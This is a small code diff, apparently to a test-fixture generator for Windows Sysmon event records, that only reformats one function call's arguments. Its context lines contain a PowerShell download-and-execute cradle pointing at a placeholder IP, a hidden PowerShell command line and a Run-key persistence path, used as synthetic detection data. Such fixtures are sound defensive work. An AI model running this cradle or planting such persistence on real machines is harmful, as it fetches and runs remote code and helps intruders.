@@ -77,8 +77,8 @@ def _script_and_registry() -> Iterator[Row]:
     run = "HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
     text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a')"
     yield _sysmon(
-        1, 1, Image=shell, CommandLine="powershell.exe -nop -w hidden", ParentImage="C:\\Windows\\explorer.exe",
-        ProcessId="4410", Description="Windows PowerShell",
+        1, 1, Image=shell, CommandLine="powershell.exe -nop -w hidden",
+        ParentImage="C:\\Windows\\explorer.exe", ProcessId="4410", Description="Windows PowerShell",
     )  # fmt: skip
     script = _sysmon(2, 4104, ScriptBlockText=text, Path="")
     script["winlog"] |= {
